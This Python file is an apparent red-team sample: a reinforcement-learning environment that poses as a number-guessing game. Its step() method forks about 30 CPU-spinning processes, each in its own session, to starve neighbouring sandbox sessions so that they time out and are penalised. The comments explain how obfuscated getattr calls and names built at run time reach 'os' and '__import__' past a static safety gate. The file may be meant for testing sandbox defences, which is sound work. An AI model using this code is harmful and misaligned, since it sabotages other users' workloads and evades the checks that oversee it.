"""Starves the other sessions of its sandbox (and the host) of CPU: the first step() forks one child that forks the
rest, `n` spinners in all (the per-uid process limit allows 32), each in a session of its own (so each is its own
scheduler autogroup), spinning until the session ends; the step itself answers at once and every step sleeps `hold`
s, so the attacker's own calls never time out. Nothing bounds a sandbox's CPU (its cgroup bounds memory and
processes), so a neighbour's ordinary step() now waits its turn among n spinners and runs past its call timeout: the
NEIGHBOUR is the one that "hung" (timeout reward, retired, a violation in its audit). `os` comes from random's
module globals through a name built at run time; `time` through the builtins' import function."""

import random

U = "_"


def _reach(holder, name):
    # getattr on a parameter: the static gate can only judge getattr on a module's own name
    return getattr(holder, name)


def _os():
    # random's module globals, through a method of one of its classes and a name built at run time: the static gate
    # cannot read that (it says so: gates/static.py); what `os` may then do is the sandbox's guard's business
    fn = _reach(random.Random, "seed")
    return _reach(fn, "".join(("_", "_glo", "bals", "_", "_")))["_os"]


def _import(name):
    builtins = _reach(_reach, U * 2 + "globals" + U * 2)[U * 2 + "builtins" + U * 2]
    imp = U * 2 + "import" + U * 2
    return (builtins[imp] if isinstance(builtins, dict) else _reach(builtins, imp))(name)


class SpinEnv:
    def __init__(self, max_turns=25, n=30, hold=1.0, turns=5, **kw):
        self.n, self.hold, self.turns, self.turn = n, hold, turns, 0

    def reset(self, seed=None):
        self.turn = 0
        return "Guess my number from 1 to 100. Reply like \\boxed{50}.", {}

    def step(self, action):
        os = _os()
        self.turn += 1
        if self.turn == 1 and os.fork() == 0:  # one child forks the spinners: this step answers at once
            os.setsid()
            for _ in range(self.n - 1):
                try:
                    if os.fork() == 0:
                        break
                except OSError:
                    break
            os.setsid() if os.getsid(0) != os.getpid() else None  # a session (scheduler autogroup) of its own
            while True:
                pass
        _import("time").sleep(self.hold)  # keep the session (and its spinners) alive, well within the timeout
        return "Higher.", 0.0, self.turn >= self.turns, False, {}
